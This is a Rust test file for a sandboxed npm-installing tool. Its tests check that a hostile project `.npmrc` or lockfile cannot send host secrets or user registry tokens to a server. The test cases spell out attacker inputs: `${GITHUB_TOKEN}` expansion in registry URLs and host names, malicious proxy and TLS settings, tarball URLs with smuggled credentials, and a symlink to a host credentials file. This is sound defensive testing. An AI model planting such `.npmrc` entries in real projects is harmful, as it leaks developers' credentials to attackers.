//! Hostile cases: a project's `.npmrc` and lockfile, written by an attacker who wants a host
//! secret (a variable such as `GITHUB_TOKEN`, or the token the user's own `.npmrc` holds for
//! a private registry). Every case runs the real binary against real registries on
//! 127.0.0.1 and checks that the secret reached no registry (path, headers, host) and no
//! output, `--json` included.
//!
//! The memory bound: installing is not a sandbox run, so no `--memory` limit governs it; the
//! runs pass `--memory 32MB` for the code they run and assert the bound of that limit for
//! the whole process, install included (a project `.npmrc` is read only up to 1 MiB and the
//! packages are a few hundred bytes, so an install that grows with its input would show).

use std::path::PathBuf;
use std::process::Command;

use base64::Engine as _;
use serde_json::json;

use crate::support::TestContext;
use crate::support::measure::{MEBIBYTE, Measured, measure, rss_bound};
use crate::support::registry::{TestRegistry, pack};

/// A host variable the attacker wants.
const HOST_SECRET: &str = "ghp_h0stS3cretV4lue8c1d";
/// The token the user's own `.npmrc` holds for their private registry.
const USER_TOKEN: &str = "npm_us3rT0kenF0rPr1vate";
/// The password of the user's legacy `_auth` for their default registry.
const USER_PASSWORD: &str = "us3rPassw0rdF0rPub";

/// The bound every case asserts: that of the `--memory` limit the runs pass.
fn bound() -> u64 {
    rss_bound(32 * MEBIBYTE)
}

/// `http://127.0.0.1:PORT` without the final `/`, for `.npmrc` keys (`//127.0.0.1:PORT/`).
fn nerf(registry: &TestRegistry) -> String {
    registry.url().trim_start_matches("http:").to_owned()
}

/// A project that imports `left-pad` (and `@acme/widget` when `acme`), with `npmrc` as its
/// `.npmrc` (none when empty).
fn project(npmrc: &str, acme: bool) -> TestContext {
    let context = TestContext::new();
    let mut dependencies = json!({ "left-pad": "1.3.0" });
    let mut code = "import pad from \"left-pad\";\n".to_owned();
    if acme {
        dependencies["@acme/widget"] = json!("1.0.0");
        code.push_str("import widget from \"@acme/widget\";\nexport default () => pad(widget);\n");
    } else {
        code.push_str("export default () => pad(\"x\");\n");
    }
    context
        .write("package.json", json!({ "name": "app", "version": "1.0.0", "dependencies": dependencies }).to_string());
    context.write("index.js", code);
    if !npmrc.is_empty() {
        context.write(".npmrc", npmrc);
    }
    context
}

/// Publishes what [`project`] imports.
fn publish(registry: &TestRegistry) {
    registry.publish("left-pad", "1.3.0", json!({}), &[("index.js", "module.exports = (s) => `padded:${s}`;")]);
    registry.publish("@acme/widget", "1.0.0", json!({}), &[("index.js", "module.exports = 'widget';")]);
}

/// Writes the user's own `.npmrc` (what `~/.npmrc` holds) and returns its path.
fn user_npmrc(context: &TestContext, text: &str) -> PathBuf {
    let path = context.cache.path().join("user.npmrc");
    std::fs::write(&path, text).expect("write the user's .npmrc");
    path
}

/// `sandbox <command> . --memory 32MB` (for `run`) with the host's secrets in its
/// environment and `user` as the user's `.npmrc`.
fn sandbox(context: &TestContext, user: Option<&PathBuf>, command: &str, extra: &[&str]) -> Command {
    let mut command_line = context.sandbox();
    command_line.arg(command).arg(".");
    if command == "run" {
        command_line.args(["--memory", "32MB"]);
    }
    command_line.args(extra).env("GITHUB_TOKEN", HOST_SECRET).env("NPM_TOKEN", USER_TOKEN);
    if let Some(user) = user {
        command_line.env("NPM_CONFIG_USERCONFIG", user);
    }
    command_line
}

/// Every form in which a secret could leave: as it is, and inside a Basic credential.
fn secrets() -> Vec<String> {
    let basic = base64::prelude::BASE64_STANDARD.encode(format!("ada:{USER_PASSWORD}"));
    vec![HOST_SECRET.to_owned(), USER_TOKEN.to_owned(), USER_PASSWORD.to_owned(), basic]
}

/// No secret in anything printed, and none in any request the registries received.
#[track_caller]
fn assert_nothing_leaked(measured: &Measured, registries: &[&TestRegistry]) {
    for secret in secrets() {
        measured.assert_absent(&secret);
        for registry in registries {
            for request in registry.received() {
                let seen = format!("{} {:?}", request.path, request.headers);
                assert!(!seen.contains(&secret), "`{secret}` reached a registry: {seen}\n{}", measured.describe());
            }
        }
    }
    measured.assert_peak_rss_below(bound());
}

/// The attacker's registry was sent no credential at all.
#[track_caller]
fn assert_no_authorization(registry: &TestRegistry, measured: &Measured) {
    for request in registry.received() {
        assert!(
            request.headers.iter().all(|(name, _)| name != "authorization"),
            "a credential reached {}: {request:?}\n{}",
            registry.url(),
            measured.describe()
        );
    }
}

/// A refusal of the project's `.npmrc`: exit code 4, the line named, in text and in `--json`,
/// and nothing sent anywhere.
#[track_caller]
fn assert_refused(context: &TestContext, user: Option<&PathBuf>, line: u32, registries: &[&TestRegistry]) {
    let measured = measure(&mut sandbox(context, user, "run", &[]), None);
    measured.assert_exit(4);
    assert!(
        measured.stderr().contains(&format!("--> .npmrc:{line}:")) && measured.stderr().contains("is refused"),
        "{}",
        measured.describe()
    );
    assert_nothing_leaked(&measured, registries);
    let measured = measure(&mut sandbox(context, user, "run", &["--json"]), None);
    measured.assert_exit(4);
    let envelope: serde_json::Value = serde_json::from_str(&measured.stdout()).expect("one JSON object");
    assert_eq!(
        (envelope["error"]["code"].as_str(), envelope["error"]["line"].as_u64()),
        (Some("untrusted-npmrc"), Some(u64::from(line))),
        "{}",
        measured.describe()
    );
    assert_nothing_leaked(&measured, registries);
    for registry in registries {
        assert!(registry.received().is_empty(), "nothing is fetched: {:?}", registry.received());
    }
}

/// `${VAR}` in a project's `.npmrc` is never expanded, wherever it stands (a registry's
/// path, a scope's registry with `?`, a token, a host name, a key): it is refused, naming
/// the line, before any request.
#[test]
fn host_variables_in_a_project_npmrc_are_never_read() {
    let evil = TestRegistry::start();
    publish(&evil);
    let url = evil.url();
    let port = evil.address.port();
    let cases = [
        (format!("registry={url}${{GITHUB_TOKEN}}/\n"), 1),
        (format!("registry={url}\n@acme:registry={url}${{GITHUB_TOKEN?}}/\n"), 2),
        (format!("registry={url}\n{}:_authToken=${{GITHUB_TOKEN}}\n", nerf(&evil)), 2),
        (format!("registry=http://${{GITHUB_TOKEN}}.localhost:{port}/\n"), 1),
        (format!("; the attacker's\nregistry={url}\n${{GITHUB_TOKEN}}:registry={url}\n"), 3),
    ];
    for (npmrc, line) in cases {
        let context = project(&npmrc, false);
        assert_refused(&context, None, line, &[&evil]);
    }
}

/// Credentials in a project's `.npmrc` (a token, `_auth`, a user name and password, a
/// client certificate, a user name and password in a registry URL) are refused, naming the
/// line, and never sent.
#[test]
fn credentials_in_a_project_npmrc_are_refused() {
    let evil = TestRegistry::start();
    publish(&evil);
    let url = evil.url();
    let host = nerf(&evil);
    let cases = [
        format!("registry={url}\n{host}:_authToken=project-literal-token\n"),
        format!("registry={url}\n{host}:_auth=cHJvamVjdDpsaXRlcmFs\n"),
        format!("registry={url}\n{host}:username=ada\n{host}:_password=cHJvamVjdA==\n"),
        format!("registry={url}\n{host}:certfile=/etc/ssl/private/host.pem\n"),
        format!("registry={url}\n_auth=cHJvamVjdDpsaXRlcmFs\n"),
        format!("registry={url}\nregistry=http://project:literal@127.0.0.1:{}/\n", evil.address.port()),
    ];
    for npmrc in cases {
        let context = project(&npmrc, false);
        assert_refused(&context, None, 2, &[&evil]);
        let measured = measure(&mut sandbox(&context, None, "install", &[]), None);
        measured.assert_exit(4);
        measured.assert_absent("project-literal-token");
        measured.assert_absent("cHJvamVjdDpsaXRlcmFs");
        measured.assert_absent("/etc/ssl/private");
        assert_nothing_leaked(&measured, &[&evil]);
        assert!(evil.received().is_empty());
    }
}

/// A project that points the default registry and the user's scope at its own server gets
/// its packages from there, and not one of the user's credentials: not the token of the
/// user's scope, not the legacy `_auth` of the user's default registry. Naming the user's
/// registry by another host name sends no credential either.
#[test]
fn a_registry_the_project_names_gets_no_user_credential() {
    let public = TestRegistry::start();
    let private = TestRegistry::start();
    let evil = TestRegistry::start();
    publish(&public);
    publish(&private);
    publish(&evil);
    private.require_token("@acme", USER_TOKEN);
    let basic = base64::prelude::BASE64_STANDARD.encode(format!("ada:{USER_PASSWORD}"));
    let user_config = format!(
        "registry={}\n_auth={basic}\n@acme:registry={}\n{}:_authToken=${{NPM_TOKEN}}\n",
        public.url(),
        private.url(),
        nerf(&private)
    );

    let context = project(&format!("registry={}\n@acme:registry={}\n", evil.url(), evil.url()), true);
    let user = user_npmrc(&context, &user_config);
    let measured = measure(&mut sandbox(&context, Some(&user), "run", &[]), None);
    measured.assert_exit(0);
    assert_eq!(measured.stdout(), "padded:widget\n");
    assert!(evil.requests_for("/") >= 4, "the project's registry served everything: {:?}", evil.received());
    assert_no_authorization(&evil, &measured);
    assert!(public.received().is_empty() && private.received().is_empty());
    assert_nothing_leaked(&measured, &[&public, &private, &evil]);

    // The user's registry by another name (same server, other host): no credential, so the
    // registry refuses.
    let other_name = format!("http://localhost:{}/", private.address.port());
    let context = project(&format!("registry={}\n@acme:registry={other_name}\n", public.url()), true);
    let user = user_npmrc(&context, &user_config);
    let measured = measure(&mut sandbox(&context, Some(&user), "install", &["--json"]), None);
    measured.assert_exit(4);
    assert!(
        measured.stdout().contains("\"code\":\"registry-status\"") && measured.stdout().contains("401"),
        "{}",
        measured.describe()
    );
    assert!(!private.received().is_empty());
    assert_no_authorization(&private, &measured);
    assert_nothing_leaked(&measured, &[&private, &evil]);
    // The user's default registry still gets the user's `_auth`, as configured.
    let to_public = public.received();
    assert!(
        !to_public.is_empty()
            && to_public
                .iter()
                .all(|request| request.headers.contains(&("authorization".to_owned(), format!("Basic {basic}")))),
        "{to_public:?}"
    );
}

/// A token the user's configuration holds for a host and port goes over plain http only if
/// the user's configuration names that registry with `http:`: a project naming
/// `http://host:port/` cannot make it cross the network unencrypted.
#[test]
fn user_credentials_never_go_over_plain_http_the_user_did_not_name() {
    let sniffer = TestRegistry::start();
    publish(&sniffer);
    let context = project(&format!("registry={}\n", sniffer.url()), false);
    let user = user_npmrc(&context, &format!("{}:_authToken=${{NPM_TOKEN}}\n", nerf(&sniffer)));
    let measured = measure(&mut sandbox(&context, Some(&user), "run", &[]), None);
    measured.assert_exit(0);
    assert_eq!(measured.stdout(), "padded:x\n");
    assert!(!sniffer.received().is_empty());
    assert_no_authorization(&sniffer, &measured);
    assert_nothing_leaked(&measured, &[&sniffer]);

    // The user names it: then the token goes there (the registry requires it for @acme).
    let private = TestRegistry::start();
    publish(&private);
    private.require_token("@acme", USER_TOKEN);
    let context = project(&format!("registry={}\n", private.url()), true);
    let user = user_npmrc(
        &context,
        &format!("@acme:registry={}\n{}:_authToken=${{NPM_TOKEN}}\n", private.url(), nerf(&private)),
    );
    let measured = measure(&mut sandbox(&context, Some(&user), "run", &[]), None);
    measured.assert_exit(0);
    assert_eq!(measured.stdout(), "padded:widget\n");
    let authorized = private
        .received()
        .iter()
        .filter(|request| {
            request
                .headers
                .iter()
                .any(|(name, value)| name == "authorization" && value == &format!("Bearer {USER_TOKEN}"))
        })
        .count();
    assert_eq!(authorized, private.received().len(), "the user's registry gets the user's token");
    measured.assert_absent(USER_TOKEN);
    measured.assert_peak_rss_below(bound());
}

/// A project's `.npmrc` cannot route the user's requests through a proxy it names (which
/// would read the user's token on a plain-http registry), bypass the user's proxy, turn TLS
/// checks off or trust a certificate it brings: each is refused before any request.
#[test]
fn a_project_cannot_set_proxies_or_tls() {
    let private = TestRegistry::start();
    publish(&private);
    private.require_token("@acme", USER_TOKEN);
    let proxy = TestRegistry::start();
    let scratch = TestContext::new();
    let ca = scratch.temp.path().join("ca.pem");
    let tls = TestRegistry::start_tls(&ca);
    publish(&tls);
    let pem = std::fs::read_to_string(&ca).expect("the CA").replace('\n', "\\n");
    let user_config = format!("@acme:registry={}\n{}:_authToken=${{NPM_TOKEN}}\n", private.url(), nerf(&private));
    let cases = [
        format!("registry={}\nproxy={}\n", private.url(), proxy.url()),
        format!("registry={}\nhttps-proxy={}\n", private.url(), proxy.url()),
        format!("registry={}\nnoproxy=*\n", private.url()),
        format!("registry={}\nstrict-ssl=false\n", tls.url()),
        format!("registry={}\ncafile=ca.pem\n", tls.url()),
        format!("registry={}\nca=\"{pem}\"\n", tls.url()),
    ];
    for npmrc in cases {
        let context = project(&npmrc, true);
        std::fs::copy(&ca, context.temp.path().join("ca.pem")).expect("copy the CA into the project");
        let user = user_npmrc(&context, &user_config);
        assert_refused(&context, Some(&user), 2, &[&private, &proxy, &tls]);
    }
}

/// A lockfile can name any URL for a tarball; the user's token goes only to the registry it
/// belongs to: not to another host, not to the user's registry under another name, and a
/// user name and password written into the URL are dropped. The user's own registry still
/// gets it.
#[test]
fn lockfile_urls_get_no_foreign_credentials() {
    let private = TestRegistry::start();
    let evil = TestRegistry::start();
    let tarball = pack(&[
        ("package/package.json".to_owned(), br#"{"name":"@acme/widget","version":"1.0.0"}"#.to_vec()),
        ("package/index.js".to_owned(), b"module.exports = 'widget';".to_vec()),
    ]);
    let manifest = json!({ "name": "@acme/widget", "version": "1.0.0" });
    private.publish_tarball(&manifest, tarball.clone());
    evil.publish_tarball(&manifest, tarball.clone());
    private.require_token("@acme", USER_TOKEN);
    let integrity = npm_cache::Integrity::sha512_of(&tarball).to_string();
    let path = "@acme/widget/-/widget-1.0.0.tgz";
    let port = private.address.port();
    let cases = [
        (format!("{}{path}", evil.url()), 0),
        (format!("http://127.0.0.1:{port}@127.0.0.1:{}/{path}", evil.address.port()), 0),
        (format!("http://localhost:{port}/{path}"), 4),
        (format!("{}{path}", private.url()), 0),
    ];
    for (resolved, code) in cases {
        let context = TestContext::new();
        context.write(
            "package.json",
            json!({ "name": "app", "version": "1.0.0", "dependencies": { "@acme/widget": "1.0.0" } }).to_string(),
        );
        context.write("index.js", "import widget from \"@acme/widget\";\nexport default () => widget;\n");
        let lockfile = json!({
            "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
            "packages": {
                "": { "name": "app", "version": "1.0.0", "dependencies": { "@acme/widget": "1.0.0" } },
                "node_modules/@acme/widget": { "version": "1.0.0", "resolved": resolved, "integrity": integrity },
            },
        });
        context.write("package-lock.json", lockfile.to_string());
        let user = user_npmrc(
            &context,
            &format!("@acme:registry={}\n{}:_authToken=${{NPM_TOKEN}}\n", private.url(), nerf(&private)),
        );
        let before = private.received().len();
        let measured = measure(&mut sandbox(&context, Some(&user), "run", &[]), None);
        measured.assert_exit(code);
        if code == 0 {
            assert_eq!(measured.stdout(), "widget\n", "{resolved}");
        }
        assert_no_authorization(&evil, &measured);
        let to_private = &private.received()[before..];
        if resolved.starts_with(&private.url()) {
            assert!(
                !to_private.is_empty() && to_private.iter().all(|request| request.status == 200),
                "the user's registry gets its token: {to_private:?}"
            );
        } else {
            assert!(
                to_private.iter().all(|request| request.headers.iter().all(|(name, _)| name != "authorization")),
                "{resolved}: {to_private:?}"
            );
        }
        measured.assert_absent(USER_TOKEN);
        measured.assert_peak_rss_below(bound());
        for request in evil.received() {
            assert!(!format!("{request:?}").contains(USER_TOKEN));
        }
    }
}

/// Code without a package.json reads the `.npmrc` of the current directory, as npm would,
/// under the same rules as a project's; a `.npmrc` beside a lone file elsewhere is not read.
#[test]
fn code_without_a_package_json() {
    let evil = TestRegistry::start();
    let good = TestRegistry::start();
    publish(&evil);
    publish(&good);
    let context = TestContext::new();
    context.write(".npmrc", format!("registry={}${{GITHUB_TOKEN}}/\n", evil.url()));
    let code = b"import pad from 'left-pad';\nexport default () => pad('stdin');\n";
    let mut command = context.run(&["-", "--memory", "32MB"]);
    command.env("GITHUB_TOKEN", HOST_SECRET);
    let measured = measure(&mut command, Some(code));
    measured.assert_exit(4);
    assert!(measured.stderr().contains("--> .npmrc:1:"), "{}", measured.describe());
    assert_nothing_leaked(&measured, &[&evil]);
    assert!(evil.received().is_empty());

    let context = TestContext::new();
    context.write("agent/agent.js", "import pad from 'left-pad';\nexport default () => pad('lone');\n");
    context.write("agent/.npmrc", format!("registry={}\n{}:_authToken=${{GITHUB_TOKEN}}\n", evil.url(), nerf(&evil)));
    let user = user_npmrc(&context, &format!("registry={}\n", good.url()));
    let mut command = context.run(&["agent/agent.js", "--memory", "32MB"]);
    command.env("GITHUB_TOKEN", HOST_SECRET).env("NPM_CONFIG_USERCONFIG", &user);
    let measured = measure(&mut command, None);
    measured.assert_exit(0);
    assert_eq!(measured.stdout(), "padded:lone\n");
    assert!(evil.received().is_empty() && !good.received().is_empty());
    assert_nothing_leaked(&measured, &[&evil, &good]);
}

/// A project's `.npmrc` is read only when it is a small regular file of the project: a link
/// to a host file (whose credentials would otherwise be used), a FIFO (which would block the
/// read forever) and a file over 1 MiB are refused before anything is sent.
#[cfg(unix)]
#[test]
fn the_project_npmrc_must_be_a_project_file() {
    let evil = TestRegistry::start();
    publish(&evil);
    let host = tempfile::tempdir().expect("a directory outside the project");
    let host_file = host.path().join("credentials.ini");
    std::fs::write(&host_file, format!("registry={}\n{}:_authToken=h0st-f1le-s3cret\n", evil.url(), nerf(&evil)))
        .expect("write the host file");
    let link = project("", false);
    std::os::unix::fs::symlink(&host_file, link.temp.path().join(".npmrc")).expect("a symbolic link");
    let fifo = project("", false);
    let fifo_path = std::ffi::CString::new(fifo.temp.path().join(".npmrc").display().to_string()).expect("a path");
    // SAFETY: a valid NUL-terminated path; mkfifo only creates a file.
    assert_eq!(unsafe { libc::mkfifo(fifo_path.as_ptr(), 0o644) }, 0, "mkfifo");
    let large = project(&format!("registry={}\n{}", evil.url(), "# padding\n".repeat(120_000)), false);
    for (context, reason) in
        [(&link, "outside the project"), (&fifo, "not a regular file"), (&large, "larger than 1 MiB")]
    {
        let measured = measure(&mut sandbox(context, None, "run", &[]), None);
        measured.assert_exit(4);
        assert!(measured.stderr().contains(reason), "{}", measured.describe());
        measured.assert_absent("h0st-f1le-s3cret");
        assert_nothing_leaked(&measured, &[&evil]);
    }
    assert!(evil.received().is_empty());
}
